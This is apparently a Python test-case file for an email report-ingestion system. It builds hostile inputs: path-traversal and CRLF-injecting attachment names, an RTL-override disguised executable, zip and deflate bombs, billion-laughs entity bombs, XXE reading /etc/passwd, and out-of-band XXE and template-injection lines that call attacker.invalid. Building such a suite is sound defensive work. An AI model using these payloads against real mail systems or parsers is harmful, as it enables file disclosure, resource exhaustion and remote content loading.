case("mime-cte-unknown", MIME, "attachment with Content-Transfer-Encoding: x-hostile",
     WITH_PROBLEMS, ("corrupt",),
     lambda n: mail(n, [attachment("Báo cáo.docx", report(unit_for(n)), cte="x-hostile",
                                   payload=b64(report(unit_for(n))))]))
case("mime-cte-uuencode", MIME, "attachment uuencoded (x-uuencode)", ACCEPTED, (),
     lambda n: mail(n, [attachment(
         "Báo cáo.docx", b"", cte="x-uuencode",
         payload=b"begin 644 bao-cao.docx\r\n" + b"".join(
             binascii.b2a_uu(report(unit_for(n))[i:i + 45]).replace(b"\n", CRLF)
             for i in range(0, len(report(unit_for(n))), 45)) + b"`\r\nend\r\n")]))
case("mime-cte-binary", MIME, "attachment sent as raw binary (CTE binary); an IMAP server may "
     "rewrite its bare line ends, which breaks the file", ACCEPTED + WITH_PROBLEMS, (),
     lambda n: mail(n, [attachment("Báo cáo.docx", report(unit_for(n)), cte="binary")]))
case("mime-cte-quoted-printable-file", MIME, "a .docx sent quoted-printable", ACCEPTED, (),
     lambda n: mail(n, [attachment("Báo cáo.docx", report(unit_for(n)),
                                   cte="quoted-printable")]))


def charset_case(name: str, charset: str, data: bytes, outcomes: tuple[str, ...],
                 problems: Sequence[str], what: str) -> None:
    case(name, MIME, what, outcomes, problems,
         lambda n: mail(n, body=multipart([text_part(data, charset, "8bit"),
                                           *report_files(unit_for(n))]),
                        ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))


VI = "Kính gửi Phòng Nội vụ, đơn vị gửi báo cáo."
charset_case("mime-charset-latin1-is-utf8", "iso-8859-1", VI.encode(), ACCEPTED, (),
             "body declared ISO-8859-1, really UTF-8")
charset_case("mime-charset-utf8-is-cp1258", "utf-8", VI.encode("cp1258", "replace"), ACCEPTED,
             (), "body declared UTF-8, really Windows-1258")
charset_case("mime-charset-unknown", "x-vn-nonsense", VI.encode(), WITH_PROBLEMS,
             ("mime-defect",), "unknown charset label")
charset_case("mime-charset-unknown-8bit", "unknown-8bit", VI.encode("cp1258", "replace"),
             ACCEPTED, (), "charset=unknown-8bit")
charset_case("mime-charset-idna", "idna", VI.encode(), WITH_PROBLEMS, ("mime-defect",),
             "charset=idna (a codec that is no charset)")
charset_case("mime-charset-zlib", "zlib_codec", b"x\x9c+I-.\x01\x00\x04]\x01\xc1",
             WITH_PROBLEMS, ("mime-defect",), "charset=zlib_codec (bytes-to-bytes codec)")
charset_case("mime-charset-undefined", "undefined", VI.encode(), WITH_PROBLEMS,
             ("mime-defect",), "charset=undefined (a codec that always fails)")
charset_case("mime-charset-unicode-escape", "unicode_escape", b"\\N{BELL}\\x00\\u202e",
             WITH_PROBLEMS, ("mime-defect",), "charset=unicode_escape")
charset_case("mime-charset-utf16-ascii-body", "utf-16", b"plain ascii, odd length!",
             ACCEPTED, (), "charset=utf-16 on an ASCII body of odd length")
charset_case("mime-charset-utf7", "utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
             ACCEPTED, (), "charset=utf-7 hiding markup")
charset_case("mime-charset-10k-name", "x" * 10_000, VI.encode(), WITH_PROBLEMS,
             ("mime-defect",), "a 10,000-character charset name")
charset_case("mime-charset-quoted-garbage", '"utf-8\\"; x=\\"', VI.encode(), WITH_PROBLEMS,
             ("mime-defect",), "charset parameter with escaped quotes")

SUBJECT_VI = "Báo cáo 6 tháng đầu năm 2025"


def header_case(name: str, what: str, subject: bytes | str | None = None,
                from_line: bytes | str | None = None, filename: bytes | None = None,
                outcomes: tuple[str, ...] = ACCEPTED, problems: Sequence[str] = (),
                extra: Sequence[str | bytes] = ()) -> None:
    def build(n: str) -> bytes:
        unit = unit_for(n)
        parts = None
        if filename is not None:
            parts = [attachment(filename, report(unit), style="raw")]
        fl = from_line(unit) if callable(from_line) else from_line
        return mail(n, parts, subject=subject, from_line=fl, extra=extra)
    case(name, MIME, what, outcomes, problems, build)


header_case("mime-header-raw-utf8", "raw UTF-8 in Subject, From name and file name",
            SUBJECT_VI.encode(), lambda u: "Văn thư ".encode() + f"<{u.email}>".encode(),
            "Báo cáo quý.docx".encode())
header_case("mime-header-raw-cp1258", "raw Windows-1258 bytes in Subject and file name",
            SUBJECT_VI.encode("cp1258", "replace"), None,
            "Báo cáo quý.docx".encode("cp1258", "replace"))
header_case("mime-header-tcvn3", "TCVN3 (ABC) bytes in Subject and file name",
            b"B\xb8o c\xb8o 6 th\xb8ng", None, b"B\xb8o c\xb8o.docx")
header_case("mime-header-vni", "VNI bytes in Subject", b"Ba\xf9o ca\xf9o 6 tha\xf9ng")
header_case("mime-header-latin1-bytes", "Latin-1 high bytes and C1 controls in Subject",
            bytes(range(0x80, 0x100)))
header_case("mime-ew-split-multibyte", "encoded-words splitting a UTF-8 character",
            "=?utf-8?B?QsOh?= =?utf-8?B?b8OhbyBj?= =?utf-8?B?w6Fv?=")
header_case("mime-ew-unterminated", "encoded-word without its closing ?=",
            "=?utf-8?B?QsOhbyBjw6Fv IDYgdGjDoW5n")
header_case("mime-ew-bad-base64", "encoded-word with invalid base64", "=?utf-8?B?@@@@!!?= x")
header_case("mime-ew-bad-qp", "encoded-word with invalid quoted-printable",
            "=?utf-8?Q?B=ZZo_c=C3?= =?utf-8?Q?=A1o?=")
header_case("mime-ew-unknown-charset", "encoded-word in an unknown charset",
            "=?x-bogus?B?QsOhbyBjw6Fv?=")
header_case("mime-ew-codec-charsets", "encoded-words in idna, zlib_codec, undefined, rot13",
            "=?idna?Q?xn--bo-cja?= =?zlib_codec?B?eJwrSS0BAARdAcE=?= "
            "=?undefined?Q?x?= =?rot13?Q?onb?=")
header_case("mime-ew-3000-words", "Subject of 3,000 encoded-words",
            " ".join(["=?utf-8?B?w6E=?="] * 3000))
header_case("mime-ew-language-suffix", "RFC 2231 language inside an encoded-word",
            "=?utf-8*vi?Q?B=C3=A1o_c=C3=A1o?=")
header_case("mime-header-subject-100kb", "a Subject line of 100 KB, unfolded", "B" * 100_000)
header_case("mime-header-subject-100kb-folded", "a Subject of 100 KB in 5,000 folded lines",
            "\r\n ".join(["Báo cáo 6 tháng " * 1] * 5000 + ["x" * 20_000]))
header_case("mime-header-from-100kb", "a From display name of 100 KB",
            None, lambda u: f'"{"Văn thư " * 12_500}" <{u.email}>')
header_case("mime-header-1200-received", "1,200 Received headers (100 KB of trace)",
            extra=[f"Received: from relay{i}.example by relay{i + 1}.example; {DATE}"
                   for i in range(1200)])
header_case("mime-header-nul",
            "NUL bytes in Subject, From name and a custom header (a From with control "
            "characters could be read two ways: held)",
            b"B\x00o c\x00o", lambda u: b"V\x00n th\x00 <" + u.email.encode() + b">",
            outcomes=QUARANTINED, problems=("quarantined",), extra=[b"X-Hostile: a\x00b"])
header_case("mime-header-no-colon", "header lines without a colon (they end the header)",
            outcomes=QUARANTINED, problems=("quarantined", "mime-defect"),
            extra=["this line has no colon", "\x01\x02\x03", ":starts with colon"])
header_case("mime-header-control-chars", "ESC sequences and bidi overrides in Subject",
            "\x1b[2J\x1b[31mBáo cáo\u202e fdp.exe\x07")
header_case("mime-header-duplicate-subjects", "three Subject headers",
            extra=["Subject: second", "Subject: =?utf-8?B?dGjhu6kgYmE=?="])
case("mime-header-continuation-first", MIME, "the first header line starts with whitespace",
     WITH_PROBLEMS, ("mime-defect",),
     lambda n: b"  folded-first-line\r\n" + mail(n))
case("mime-header-no-separator", MIME, "no blank line between header and body",
     WITH_PROBLEMS, ("mime-defect",),
     lambda n: mail(n).replace(b"\r\n\r\n--", b"\r\n--", 1))
case("mime-eol-bare-lf", MIME, "LF line ends only", ACCEPTED, (),
     lambda n: mail(n, eol=b"\n"))
case("mime-eol-bare-cr", MIME, "CR line ends only (old Mac)",
     ACCEPTED + WITH_PROBLEMS, (),
     lambda n: mail(n, eol=b"\r"))
case("mime-eol-mixed", MIME, "CRLF, LF, CR and LFCR mixed",
     QUARANTINED + ACCEPTED + WITH_PROBLEMS, (),
     lambda n: b"".join(line + (b"\r\n", b"\n", b"\r", b"\n\r")[i % 4]
                        for i, line in enumerate(mail(n).split(CRLF))))
case("mime-nul-in-body", MIME, "NUL bytes in the text body and between parts", ACCEPTED, (),
     lambda n: mail(n, [text_part(b"K\x00\x00nh g\x00i", "utf-8", "8bit"),
                        *report_files(unit_for(n))]))
case("mime-no-from", MIME, "no From header at all: identified by the letterhead",
     WITH_PROBLEMS, ("mime-defect", "unregistered-address"),
     lambda n: mail(n, headers=["To: " + INBOX, "Subject: " + ew(SUBJECT_VI), f"Date: {DATE}",
                                f"Message-ID: <{n}@hostile.baocao.test>", "MIME-Version: 1.0"],
                    body=_parts_text(n), ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))
case("mime-from-empty", MIME, "From: <> (empty address)",
     WITH_PROBLEMS, ("mime-defect", "unregistered-address"),
     lambda n: mail(n, from_line="<>"))
case("mime-from-garbage", MIME, "From header of punctuation only",
     WITH_PROBLEMS, ("mime-defect", "unregistered-address"),
     lambda n: mail(n, from_line='"@<>;:,"@@'))
case("mime-no-message-id", MIME, "no Message-ID (dedup falls back to the hash)", ACCEPTED, (),
     lambda n: mail(n, msgid=None))
case("mime-message-id-empty", MIME, "an empty Message-ID header", ACCEPTED, (),
     lambda n: mail(n, extra=["Message-ID: "], msgid=None))
case("mime-message-id-garbage", MIME, "Message-ID without angle brackets, with spaces",
     ACCEPTED, (), lambda n: mail(n, msgid=f"this is {n} not an id"))
case("mime-message-id-10kb", MIME, "a Message-ID of 10 KB", ACCEPTED, (),
     lambda n: mail(n, msgid=f"<{'m' * 10_000}@{n}.test>"))
case("mime-message-id-nul", MIME, "a NUL byte inside the Message-ID", ACCEPTED, (),
     lambda n: mail(n, msgid=None,
                    extra=[b"Message-ID: <nul\x00" + n.encode() + b"@hostile.baocao.test>"]))
case("mime-message-id-duplicate-first", MIME, "first of two mails sharing a Message-ID",
     ACCEPTED, (), lambda n: mail(n, msgid="<shared-id@hostile.baocao.test>"))
case("mime-message-id-duplicate-second", MIME,
     "a different mail reusing that Message-ID (broken clients do): recorded as a new mail",
     WITH_PROBLEMS, ("message-id-reused",),
     lambda n: mail(n, msgid="<shared-id@hostile.baocao.test>", unit=COMMUNES[0],
                    text="Một báo cáo khác"))
case("mime-two-message-ids", MIME, "two Message-ID headers", ACCEPTED, (),
     lambda n: mail(n, extra=[f"Message-ID: <{n}-second@hostile.baocao.test>"]))
case("mime-content-type-garbage", MIME, "Content-Type: ;;;===", QUARANTINED, ("quarantined",),
     lambda n: mail(n, body=_parts_text(n), ctype=";;;===;boundary"))
case("mime-content-type-no-subtype", MIME, "Content-Type: multipart/ with a boundary",
     ACCEPTED, (),
     lambda n: mail(n, body=_parts_text(n), ctype=f'multipart/; boundary="{BOUNDARY}"'))
case("mime-content-type-text-with-parts", MIME, "top-level text/plain holding MIME parts",
     QUARANTINED, ("quarantined",),
     lambda n: mail(n, body=_parts_text(n), ctype="text/plain; charset=utf-8"))
case("mime-message-partial", MIME, "message/partial fragment 1 of 3",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: mail(n, body=_parts_text(n)[:2000],
                    ctype='message/partial; id="abc@x"; number=1; total=3'))
case("mime-message-external-body", MIME, "message/external-body pointing at a local file",
     ACCEPTED + WITH_PROBLEMS, (),
     lambda n: mail(n, [part(['Content-Type: message/external-body; access-type=local-file; '
                              'name="/etc/passwd"'], b"Content-Type: text/plain\r\n\r\n"),
                        *report_files(unit_for(n))]))
case("mime-multipart-alternative-only", MIME, "text and HTML alternatives, report inside "
     "multipart/related", ACCEPTED, (),
     lambda n: mail(n, body=multipart([
         part(['Content-Type: multipart/alternative; boundary="alt"'],
              multipart([text_part(BODY), part(["Content-Type: text/html; charset=utf-8"],
                                               b"<script>alert(1)</script><p>K\xc3\xadnh</p>")],
                        "alt")),
         part(['Content-Type: multipart/related; boundary="rel"'],
              multipart(report_files(unit_for(n)), "rel")),
     ]), ctype=f'multipart/mixed; boundary="{BOUNDARY}"'))
case("mime-html-deep-tags", MIME, "HTML body of 10,000 nested <div> and unclosed tags",
     ACCEPTED, (),
     lambda n: mail(n, [part(["Content-Type: text/html; charset=utf-8"],
                             b"<div>" * 10_000 + b"<p <a <b" * 1000),
                        *report_files(unit_for(n))], text=""))
case("mime-body-110k-chars", MIME, "a 110,000-character text body (limit 100,000)",
     WITH_PROBLEMS, ("mime-defect",),
     lambda n: mail(n, text="Báo cáo " * 13_750))
case("mime-attachment-zero-bytes", MIME, "a 0-byte attachment next to the report",
     WITH_PROBLEMS, ("empty",),
     lambda n: mail(n, with_report(n, attachment("Biểu số liệu.xlsx", b"", XLSX_TYPE))))
case("mime-attachment-zero-bytes-only", MIME, "the only attachment is 0 bytes",
     WITH_PROBLEMS, ("empty",),
     lambda n: mail(n, [attachment("Báo cáo.docx", b"")]))
case("mime-attachment-type-lie", MIME, "a .docx declared image/png", ACCEPTED, (),
     lambda n: mail(n, [attachment("Báo cáo.docx", report(unit_for(n)), "image/png")]))
case("mime-attachment-inline-no-name", MIME, "the report inline, no disposition, no name",
     ACCEPTED, (),
     lambda n: mail(n, [part([f"Content-Type: {DOCX}", "Content-Transfer-Encoding: base64"],
                             b64(report(unit_for(n))))]))
case("mime-tnef-winmail", MIME, "Outlook TNEF winmail.dat instead of the file",
     ACCEPTED + WITH_PROBLEMS, (),
     lambda n: mail(n, with_report(n, attachment("winmail.dat", b"\x78\x9f\x3e\x22" + bytes(200),
                                                 "application/ms-tnef"))))
case("mime-smime-encrypted", MIME, "S/MIME encrypted body (application/pkcs7-mime)",
     ACCEPTED + WITH_PROBLEMS, (),
     lambda n: mail(n, body=b64(bytes(range(256)) * 4),
                    ctype='application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"'))
case("mime-calendar-invite", MIME, "a meeting invitation (text/calendar) instead of a report",
     QUARANTINED, ("quarantined",),
     lambda n: mail(n, [part(['Content-Type: text/calendar; method=REQUEST; charset=utf-8'],
                             b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:H\xe1\xbb\x8dp\r\n"
                             b"END:VEVENT\r\nEND:VCALENDAR\r\n")]))
case("mime-empty-message", MIME, "0 bytes", QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: b"")
case("mime-headers-only", MIME, "headers and no body at all", QUARANTINED, ("quarantined",),
     lambda n: mail(n, body=b"", ctype="text/plain")[:-4])
case("mime-random-bytes", MIME, "4 KB of random bytes", QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: random.Random(n).randbytes(4096))
case("mime-binary-headers", MIME, "valid message preceded by binary header junk",
     QUARANTINED, ("quarantined", "mime-defect"),
     lambda n: bytes(range(1, 32)) + b": x\r\n" + mail(n))


def rfc2231_case(name: str, what: str, params: str, outcomes: tuple[str, ...] = ACCEPTED,
                 problems: Sequence[str] = ()) -> None:
    case(name, MIME, what, outcomes, problems,
         lambda n: mail(n, [part([f"Content-Type: {DOCX}",
                                  f"Content-Disposition: attachment; {params}",
                                  "Content-Transfer-Encoding: base64"],
                                 b64(report(unit_for(n))))]))


rfc2231_case("mime-rfc2231-out-of-order", "filename*2, *0, *1 in the wrong order",
             "filename*2*=%20th%C3%A1ng.docx; filename*0*=utf-8''B%C3%A1o; "
             "filename*1*=%20c%C3%A1o%206")
rfc2231_case("mime-rfc2231-gap", "continuations *0 and *2 (no *1)",
             "filename*0*=utf-8''B%C3%A1o; filename*2*=.docx")
rfc2231_case("mime-rfc2231-bad-charset", "RFC 2231 value in an unknown charset",
             "filename*=x-bogus'vi'B%C3%A1o%20c%C3%A1o.docx")
rfc2231_case("mime-rfc2231-bad-percent", "broken %-escapes in an RFC 2231 value",
             "filename*=utf-8''B%ZZo%C3%%20c%C3.docx")
rfc2231_case("mime-rfc2231-huge-index", "continuation index 999 and 99999",
             "filename*999*=x.docx; filename*99999=y; filename*0=B")
rfc2231_case("mime-rfc2231-mixed-forms", "filename, filename* and filename*0 all present",
             'filename="a.docx"; filename*=utf-8\'\'b.docx; filename*0="c"; filename*1=".docx"')
rfc2231_case("mime-rfc2231-1000-pieces", "a name in 1,000 continuation pieces",
             "; ".join(f"filename*{i}*=%C3%A1" for i in range(1000)) + "; filename*1000=.docx")

# --- file names --------------------------------------------------------------------------------

NAMES = "names"


def name_case(name: str, what: str, filename: str | bytes, style: str = "ew",
              outcomes: tuple[str, ...] = ACCEPTED, problems: Sequence[str] = (),
              data: Callable[[SeedUnit], bytes] = report, ctype: str = DOCX) -> None:
    case(name, NAMES, what, outcomes, problems,
         lambda n: mail(n, [attachment(filename, data(unit_for(n)), ctype, style=style)]))


E = ESCAPE_MARKER
name_case("name-traversal-relative", "../../ in the name", f"../../{E}-1.docx", "plain")
name_case("name-traversal-deep", "20 levels of ../ to /tmp", "../" * 20 + f"tmp/{E}-2.docx",
          "plain")
name_case("name-traversal-etc-passwd", "../../etc/passwd", "../../etc/passwd", "plain",
          ACCEPTED)
name_case("name-absolute-unix", "an absolute path", f"/etc/cron.d/{E}-3.docx", "plain")
name_case("name-windows-path", r"C:\Windows\System32\...", f"C:\\Windows\\System32\\{E}-4.docx",
          "plain")
name_case("name-windows-unc", r"a UNC path \\server\share\..\x",
          f"\\\\server\\share\\..\\..\\{E}-5.docx", "plain")
name_case("name-windows-traversal", r"..\..\ in the name", f"..\\..\\{E}-6.docx", "plain")
name_case("name-traversal-rfc2231", "../ hidden in RFC 2231 %-escapes",
          f"../../{E}-7.docx", "2231")
name_case("name-traversal-encoded-word", "../ hidden in an encoded-word",
          f"../../{E}-8.docx", "ew")
name_case("name-traversal-fullwidth", "fullwidth and division slashes (U+FF0F, U+2215)",
          f"..／..∕{E}-9.docx", "ew")
name_case("name-traversal-percent", "%2e%2e%2f literally in a quoted name",
          f"%2e%2e%2f%2e%2e%2f{E}-10.docx", "plain")
name_case("name-control-chars", "newline, tab, bell and DEL in the name",
          "Báo\ncáo\t6\x07tháng\x7f.docx", "ew")
name_case("name-ansi-escape", "terminal escape sequences in the name",
          "\x1b[2J\x1b]0;pwned\x07Báo cáo.docx", "ew")
name_case("name-crlf-injection", "CRLF + header injection inside the name",
          "Báo cáo.docx\r\nBcc: victim@example.com\r\n", "ew")
name_case("name-nul", "a NUL byte inside the name", b"bao-cao\x00.exe.docx", "raw")
name_case("name-500-chars", "a 500-character ASCII name", "b" * 495 + ".docx", "plain")
name_case("name-500-chars-vietnamese", "500 Vietnamese characters in RFC 2231",
          "Báo cáo tổng hợp " * 29 + "x.docx", "2231")
name_case("name-4096-chars", "a 4,096-character name", "ữ" * 4091 + ".docx", "ew")
name_case("name-rtl-override-exe", "U+202E turns 'xcod.exe' into 'exe.docx' (a program)",
          "Báo cáo\u202excod.exe", "ew", WITH_PROBLEMS, ("unsupported",),
          lambda u: pe_executable(), OCTET)
name_case("name-rtl-override-docx", "U+202E and U+200F marks in a real report's name",
          "\u202eBáo\u200f cáo\u202c.docx", "ew")
name_case("name-zero-width", "zero-width joiner, ZWSP and BOM inside the name",
          "Báo\u200d cáo\u200b\ufeff.docx", "ew")
name_case("name-nfd", "decomposed (NFD) Vietnamese name",
          unicodedata.normalize("NFD", "Báo cáo tổng hợp.docx"), "ew")
name_case("name-empty", 'filename=""', "", "plain")
name_case("name-only-dots", 'filename=".."', "..", "plain")
name_case("name-single-dot", 'filename="."', ".", "plain")
name_case("name-only-spaces", "a name of spaces", "     ", "plain")
name_case("name-reserved-con", "Windows reserved name CON.docx", "CON.docx", "plain")
name_case("name-reserved-nul", "Windows reserved names NUL / COM1 / LPT1", "NUL", "plain")
name_case("name-reserved-com1-xlsx", "COM1.xlsx (a report named like a device)", "COM1.docx",
          "plain")
name_case("name-trailing-dots-spaces", "trailing dots and spaces", "Báo cáo.docx. . .  ", "ew")
name_case("name-double-extension-exe", "bao-cao.docx.exe (a program)", "bao-cao.docx.exe",
          "plain", WITH_PROBLEMS, ("unsupported",), lambda u: pe_executable(), OCTET)
name_case("name-no-extension", "no extension, octet-stream", "baocao", "plain",
          data=report, ctype=OCTET)
name_case("name-reserved-chars", 'Windows-forbidden characters <>:"|?*',
          'Báo<cáo>:|?*.docx', "ew")
name_case("name-emoji", "emoji and astral-plane characters", "📄 Báo cáo 𝔅𝔞𝔬.docx", "ew")
name_case("name-lone-surrogate", "raw bytes of a UTF-16 surrogate in the name",
          b"bao-cao-\xed\xa0\x80.docx", "raw")
name_case("name-invalid-utf8", "invalid UTF-8 and overlong sequences in the name",
          b"bao\xc0\xaf\xc0\xaf\xff\xfe.docx", "raw")
name_case("name-semicolon-injection", "a name that closes its quote and adds a parameter",
          b'a.docx"; filename="b.exe', "raw")
name_case("name-extension-case", "upper-case .DOCX extension", "BAO CAO.DOCX", "plain")
case("name-duplicate", NAMES, "two attachments with the same name, different content",
     ACCEPTED, (), lambda n: mail(n, [attachment("Báo cáo.docx", report(unit_for(n))),
                                      attachment("Báo cáo.docx", report(COMMUNES[0]))]))
case("name-conflicting-params", NAMES, "name= and filename= disagree (exe vs docx)",
     ACCEPTED, (),
     lambda n: mail(n, [part([f'Content-Type: {DOCX}; name="setup.exe"',
                              f'Content-Disposition: attachment; filename="{E}-11.docx"',
                              "Content-Transfer-Encoding: base64"], b64(report(unit_for(n))))]))

# --- file attacks --------------------------------------------------------------------------------

FILES = "files"


def xlsx_lying_bomb(mib: int) -> bytes:
    base = simple_xlsx()
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        keep = [(i.filename, zf.read(i)) for i in zf.infolist()
                if i.filename != "xl/worksheets/sheet1.xml"]
    payload, crc = zeros_deflated(mib)
    members = [(n, zlib.compress(d)[2:-4], zlib.crc32(d), len(d), 0) for n, d in keep]
    members.append(("xl/worksheets/sheet1.xml", payload, crc, 1000, 0))
    return raw_zip(members)


def add_member(data: bytes, name: str, payload: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    return zip_bytes([*members, (name, payload)])


def zipfile_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def flate_bomb_pdf(mib: int) -> bytes:
    payload, _ = zeros_deflated(mib)
    stream = b"\x78\x9c" + payload  # zlib header; no adler32: pypdf tolerates its absence
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream
        + b"\nendstream",
    ])


def file_case(name: str, what: str, filename: str, data: Callable[[], bytes],
              outcomes: tuple[str, ...], problems: Sequence[str], ctype: str = DOCX,
              office: bool = False, large: bool = False) -> None:
    units = OFFICES if office else COMMUNES
    case(name, FILES, what, outcomes, problems,
         lambda n: mail(n, [attachment(filename, data(), ctype)], unit=unit_for(n, units)),
         large=large)


ZB, XE, EN, CO = "zip-bomb", "xml-entities", "encrypted", "corrupt"
MISSING = "form-missing"

file_case("file-docx-bomb-honest", "a .docx whose document.xml inflates to 40 MiB (declared)",
          "Báo cáo.docx", lambda: docx_bomb(40), WITH_PROBLEMS, (ZB,))
file_case("file-docx-bomb-lying", "a .docx whose header says 100 bytes, inflates to 40 MiB",
          "Báo cáo.docx", lambda: docx_bomb(40, honest=False), WITH_PROBLEMS, (ZB,))
file_case("file-xlsx-bomb-honest", "an .xlsx whose sheet inflates to 40 MiB (declared)",
          "Biểu 01.xlsx", lambda: docx_bomb(40, "xl/worksheets/sheet1.xml"), WITH_PROBLEMS,
          (ZB, MISSING), XLSX_TYPE, office=True)
file_case("file-xlsx-bomb-lying", "an .xlsx with a lying sheet size (40 MiB real)",
          "Biểu 01.xlsx", lambda: xlsx_lying_bomb(40), WITH_PROBLEMS, (ZB, MISSING), XLSX_TYPE,
          office=True)
file_case("file-docx-bomb-1gib", "a .docx inflating to 1 GiB (1 MB on the wire)",
          "Báo cáo.docx", lambda: docx_bomb(1024), WITH_PROBLEMS, (ZB,), large=True)
file_case("file-xlsx-bomb-1gib-lying", "an .xlsx lying about a 1 GiB sheet",
          "Biểu 01.xlsx", lambda: xlsx_lying_bomb(1024), WITH_PROBLEMS, (ZB, MISSING),
          XLSX_TYPE, office=True, large=True)


def many_members(n: int) -> bytes:
    members = [(f"word/media/image{i}.png", b"\x03\x00", 0, 0, 0) for i in range(n)]
    doc = report_document_xml(COMMUNES[0])
    members.append(("word/document.xml", zlib.compress(doc)[2:-4], zlib.crc32(doc), len(doc), 0))
    return raw_zip(members)


file_case("file-docx-3000-members", "a .docx of 3,000 members (limit 2,000)", "Báo cáo.docx",
          lambda: many_members(3000), WITH_PROBLEMS, (ZB,), large=True)
file_case("file-docx-eocd-lies", "end record claims 65,000 entries", "Báo cáo.docx",
          lambda: raw_zip([("word/document.xml", b"\x03\x00", 0, 0, 0)], entries=65000),
          WITH_PROBLEMS, (ZB,))
file_case("file-docx-zip64-lies", "end record says zip64 (0xFFFF) with no zip64 record",
          "Báo cáo.docx",
          lambda: raw_zip([("word/document.xml", b"\x03\x00", 0, 0, 0)], entries=0xFFFF,
                          cd_size=0xFFFFFFFF), WITH_PROBLEMS, (CO,))
file_case("file-docx-method-99", "a member compressed with method 99 (AES)", "Báo cáo.docx",
          lambda: raw_zip([("word/document.xml", b"xxxx", 0, 4, 0)], method=99),
          WITH_PROBLEMS, (CO,))
file_case("file-docx-zip-encrypted", "zip-level password on the .docx", "Báo cáo.docx",
          lambda: raw_zip([("word/document.xml", b"x" * 40, 0, 28, 1)]), WITH_PROBLEMS, (EN,))

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
              for i in range(1, 10))
    + ']>'
)
XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def entity_docx(prolog: str, body: str = "&lol9;") -> bytes:
    xml = f'{prolog}<w:document xmlns:w="{W_NS}"><w:body>{paragraph(body)}</w:body></w:document>'
    return docx_package(xml.encode())


file_case("file-docx-billion-laughs", "entity bomb in document.xml", "Báo cáo.docx",
          lambda: entity_docx(BILLION_LAUGHS), WITH_PROBLEMS, (XE,))
file_case("file-docx-xxe", "external entity to /etc/passwd in document.xml", "Báo cáo.docx",
          lambda: entity_docx(XXE, "&xxe;"), WITH_PROBLEMS, (XE,))
file_case("file-docx-xxe-parameter", "external parameter entity (out-of-band XXE)",
          "Báo cáo.docx",
          lambda: entity_docx('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM '
                              '"http://attacker.invalid/x.dtd"> %p;]>', "x"),
          WITH_PROBLEMS, (XE,))
file_case("file-docx-utf16-doctype", "a DOCTYPE hidden by UTF-16 encoding", "Báo cáo.docx",
          lambda: docx_package(
              (BILLION_LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
               + f'<w:document xmlns:w="{W_NS}"><w:body>{paragraph("&lol3;")}</w:body>'
               "</w:document>").encode("utf-16")),
          WITH_PROBLEMS, (XE,))
file_case("file-docx-xinclude", "XInclude of /etc/passwd in document.xml", "Báo cáo.docx",
          lambda: docx_with_body('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                 'href="file:///etc/passwd" parse="text"/>' + paragraph("Báo cáo")),
          ACCEPTED, ())
file_case("file-docx-doctype-in-rels", "DOCTYPE in _rels/.rels", "Báo cáo.docx",
          lambda: docx_package(report_document_xml(COMMUNES[1]),
                               rels=XXE.encode() + root_rels("word/document.xml")[len(XML_HEAD):]),
          WITH_PROBLEMS, (XE,))
file_case("file-docx-external-template", "external relationship (template injection URL)",
          "Báo cáo.docx",
          lambda: docx_package(report_document_xml(COMMUNES[2]), [(
              "word/_rels/document.xml.rels", XML_HEAD + (
                  b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                  b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats'
                  b'.org/officeDocument/2006/relationships/attachedTemplate" Target="http://'
                  b'attacker.invalid/t.dotm" TargetMode="External"/></Relationships>'))]),
          ACCEPTED, ())
file_case("file-docx-deep-xml", "document.xml nested 100,000 elements deep", "Báo cáo.docx",
          lambda: docx_with_body("<w:p>" * 100_000 + "</w:p>" * 100_000),
          ACCEPTED + WITH_PROBLEMS, ())
file_case("file-docx-gridspan", "a table cell spanning 2^31 columns", "Báo cáo.docx",
          lambda: docx_with_body('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/>'
                                 "</w:tcPr>" + paragraph("Báo cáo") + "</w:tc></w:tr></w:tbl>"),
          ACCEPTED, ())
file_case("file-docx-huge-attribute", "a 2 MB attribute value", "Báo cáo.docx",
          lambda: docx_with_body(f'<w:p w:rsidR="{"A" * 2_000_000}">' + "<w:r><w:t>x</w:t>"
                                 "</w:r></w:p>"), ACCEPTED + WITH_PROBLEMS, ())
file_case("file-docx-not-xml", "document.xml is binary garbage", "Báo cáo.docx",
          lambda: docx_package(random.Random(1).randbytes(3000)), WITH_PROBLEMS, (CO,))
file_case("file-docx-bad-utf8", "document.xml with invalid UTF-8", "Báo cáo.docx",
          lambda: docx_with_body("<w:p><w:r><w:t>B\udcc3o</w:t></w:r></w:p>".encode(
              "utf-8", "surrogateescape").decode("latin-1")),
          ACCEPTED + WITH_PROBLEMS, ())
file_case("file-docx-no-document", "a package without word/document.xml", "Báo cáo.docx",
          lambda: zip_bytes([("[Content_Types].xml", content_types({})),
                             ("_rels/.rels", root_rels("word/document.xml"))]),
          WITH_PROBLEMS, (CO,))
